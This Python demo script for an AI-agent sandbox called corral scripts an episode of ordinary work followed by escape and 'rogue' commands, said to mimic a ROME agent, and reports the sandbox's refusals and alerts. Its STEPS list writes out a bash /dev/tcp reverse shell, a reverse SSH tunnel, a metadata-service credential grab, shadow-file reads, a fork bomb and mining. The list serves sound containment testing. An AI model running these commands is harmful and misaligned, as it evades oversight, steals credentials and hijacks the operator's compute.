"""A short agent episode in a corral sandbox: useful work succeeds, escape attempts are refused and
reported, and what the ROME agent did (mining, a reverse tunnel, probing) trips corral's tripwires.
Run with `make demo` (as root)."""

from __future__ import annotations

import os
import sys
import time
from pathlib import Path

from corral import Alert, Deny, ExecExit, Filters, Policy, Sandbox, Store, report

ROOT = Path(__file__).resolve().parent.parent
REPORTS = "/var/lib/corral/reports"

STEPS: list[tuple[str, str]] = [
    ("work: write and run a program", "printf 'print(sum(range(10)))\\n' > sum.py && python3 sum.py"),
    ("work: files persist between commands", "cat sum.py | wc -l"),
    ("work: tools are there", "python3 --version; git --version | head -1; id -un"),
    ("escape: read the host's password hashes", "cat /etc/shadow"),
    ("escape: read root's SSH keys", "ls /root/.ssh"),
    ("escape: plant a binary on the host", "cp /bin/sh /usr/local/bin/backdoor"),
    ("escape: see the host's processes", "ps -e | wc -l"),
    ("escape: new user namespace (root inside)", "unshare -Ur id"),
    (
        "escape: mount a filesystem",
        "python3 -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); "
        'print(l.mount(b"none", b"/mnt", b"tmpfs", 0, None), ctypes.get_errno())\'',
    ),
    (
        "escape: raw socket for a network scan",
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)'",
    ),
    (
        "escape: reach the network",
        "python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 22), 2)'",
    ),
    ("resources: memory bomb", "python3 -c 'b = bytearray(2 << 30)'"),
    # Every copy forks for one second, then exits: the budget caps the storm, the host never notices.
    (
        "resources: fork bomb",
        "python3 -c 'import os, time\nend = time.time() + 1\nwhile time.time() < end:\n    try: os.fork()\n"
        "    except OSError: pass' 2>/dev/null; sleep 1.5; echo processes now: $(ps -e | wc -l)",
    ),
    ("lingering: start a background job and return", "nohup sleep 600 >/dev/null 2>&1 & echo started"),
    # What the ROME agent did, unprompted, with compute to spare.
    (
        "rogue: a miner with its pool on the command line",
        "python3 -c 'print(1)' -o stratum+tcp://pool.example:3333",
    ),
    (
        "rogue: the same miner renamed, recognised by content",
        "printf '#!/bin/sh\\n# mining.subscribe\\nwhile :; do :; done\\n' > .kworker && "
        "chmod +x .kworker && ./.kworker",
    ),
    (
        "rogue: burn CPU after the command returns",
        "nohup python3 -c 'while True: pass' >/dev/null 2>&1 & echo started",
    ),
    ("rogue: (the next command, 2 s later)", "sleep 2; echo still here"),
    (
        "rogue: reverse SSH tunnel",
        "ssh -o BatchMode=yes -o ConnectTimeout=2 -N -R 9000:localhost:22 agent@203.0.113.9",
    ),
    ("rogue: probe the internal network", "nc -w 1 10.0.0.5 22; nc -w 1 10.0.0.6 22"),
    (
        "rogue: cloud credentials from the metadata service",
        "curl -s -m 2 http://169.254.169.254/latest/meta-data/",
    ),
    (
        "rogue: a reverse shell (the sandbox is terminated)",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
    ),
]


def main() -> int:
    policy = Policy.load(ROOT / "examples/policies/strict.yaml")
    print(f"corral demo: one agent episode under {policy.source}\n")
    run = time.strftime("demo-%Y%m%dT%H%M%S")
    with Sandbox(policy, keep_workspace=False, labels={"run": run, "episode": "1"}) as sb:
        for title, command in STEPS:
            if sb.closed:
                break
            seen = len(sb.alerts())
            r = sb.exec(command, timeout=20, text=True)
            out = (str(r.stdout).strip() or str(r.stderr).strip()).splitlines()
            print(f"$ {command.splitlines()[0][:90]}")
            print(f"  {title}: exit {r.exit_code}" + (f" | {out[-1][:100]}" if out else ""))
            for d in r.denials:
                who = f" by {d.process.exe} (pid {d.process.ns_pid} inside)" if d.process else ""
                print(f"  -> refused by {d.layer}: {d.what}{who}")
            for p in r.leftover[:2]:
                print(f"  -> left running: {' '.join(p.cmdline)[:60]} (pid {p.ns_pid} inside)")
            if len(r.leftover) > 2:
                print(f"  -> ... and {len(r.leftover) - 2} more left running")
            for a in sb.alerts()[seen:]:
                print(f"  -> ALERT {a.category} ({a.severity}): {a.rule}; {a.action}: {a.outcome}")
            if r.terminated:
                print(f"  -> the command ended with the sandbox ({r.terminated})")
        events = sb.events()
    denies = [e for e in events if isinstance(e, Deny)]
    execs = [e for e in events if isinstance(e, ExecExit)]
    alerts = [e for e in events if isinstance(e, Alert) and e.action != "log"]
    print(
        f"\n{len(execs)} commands, {len(denies)} refusals and {len(alerts)} alerts recorded; the sandbox "
        "is gone and so is everything it left running."
    )
    print("Every event is JSON; the last few:")
    for e in events[-3:]:
        print("  " + e.model_dump_json()[:160])
    _point_at_the_record(sb.id, run)
    return 0


def _point_at_the_record(sandbox: str, run: str) -> None:
    """close() returned with every event committed to the host's audit store: check its chains,
    write the episode's report, and say where to look."""
    with Store.open() as store:
        verification = store.verify()
        info = store.find_sandbox(sandbox)
        built = report.build([info], store.events(Filters(sandbox=sandbox)))
    os.makedirs(REPORTS, exist_ok=True)
    html = f"{REPORTS}/{sandbox}.html"
    with open(html, "w", encoding="utf-8") as f:
        f.write(report.to_html(built))
    state = "intact" if verification.ok else "TAMPERED"
    print(
        f"\nThe episode is in the audit store {store.where} ({info.events} events; the store's chains "
        f"and signatures check: {state}). Its verdict: {info.verdict}.\n"
        f"  report:    .venv/bin/corral report {sandbox}     (or --label run={run}; --format html|json)\n"
        f"  as HTML:   {html}\n"
        f"  dashboard: .venv/bin/corral ui, then http://127.0.0.1:8765/sandboxes/{sandbox}\n"
        f"  verify:    .venv/bin/corral audit verify"
    )


if __name__ == "__main__":
    sys.exit(main())
